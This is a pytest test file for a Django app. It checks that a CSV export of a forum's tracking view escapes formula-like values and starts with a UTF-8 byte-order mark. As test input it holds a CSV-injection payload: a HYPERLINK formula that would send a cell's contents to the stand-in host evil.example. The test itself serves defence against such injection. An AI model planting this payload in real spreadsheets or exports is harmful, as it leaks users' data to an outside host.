import csv
import io

import pytest
from django.urls import reverse

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm")'


def test_it_exports_no_formula_from_a_cell_or_theme_name(client_as, personas, session, org):
    org["cell_a"].name = HOSTILE
    org["cell_a"].save(update_fields=["name"])
    session.theme.title = "+SUM(A1:A9)"
    session.theme.save(update_fields=["title"])
    response = client_as(personas["officer"]).get(reverse("forum:tracking") + "?format=csv")
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [value for row in rows[1:] for value in row]
    assert "'" + HOSTILE in cells and "'+SUM(A1:A9)" in cells
    assert not any(value.startswith(("=", "+", "-", "@")) for value in cells)
